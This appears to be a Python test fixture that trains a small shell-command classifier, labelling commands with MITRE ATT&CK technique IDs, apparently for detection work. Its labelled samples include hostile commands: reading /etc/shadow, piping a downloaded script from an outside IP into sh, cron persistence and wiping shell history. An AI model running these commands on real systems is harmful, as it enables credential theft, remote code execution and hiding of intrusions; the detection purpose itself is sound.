"""A real ``tfidf-lr`` model trained in a moment on a few dozen commands of our own: for tests of commands and sinks."""

from ttpline.domain.labelled import LabelledCommand
from ttpline.models.base import Thresholds
from ttpline.models.tfidf_lr import TfidfLr

_EXAMPLES: dict[str, tuple[str, ...]] = {
    "T1003.008": (
        "cat /etc/shadow",
        "cp /etc/shadow /tmp/s",
        "sudo cat /etc/passwd /etc/shadow",
        "unshadow passwd shadow",
    ),
    "T1105": (
        "wget http://192.0.2.7/a.sh -O /tmp/a.sh",
        "curl -o /tmp/x http://198.51.100.9/x",
        "scp root@203.0.113.5:/tmp/kit .",
        "curl -s http://192.0.2.1/run | sh",
    ),
    "T1053.003": ("crontab -e", "echo '* * * * * /tmp/a.sh' | crontab -", "crontab /tmp/job", "cat /etc/crontab"),
    "T1033": ("whoami", "id", "w", "who -a"),
    "T1070.003": ("history -c", "rm ~/.bash_history", "unset HISTFILE", "ln -sf /dev/null ~/.bash_history"),
    "Normal": (
        "ls -la",
        "git status",
        "make test",
        "vim notes.txt",
        "cd src",
        "df -h",
        "tail -f /var/log/syslog",
        "systemctl status nginx",
        "grep -rn main src",
        "python3 manage.py migrate",
    ),
}


def small_model() -> TfidfLr:
    """Fitted, not saved; the same on every call."""
    rows = [
        LabelledCommand(command, label, group=f"{label}-{at}")
        for label, commands in _EXAMPLES.items()
        for at, command in enumerate(commands)
    ]
    model = TfidfLr()
    model.fit(rows, [], seed=0)
    model.thresholds = Thresholds(attack=0.6, normal=0.5)
    return model
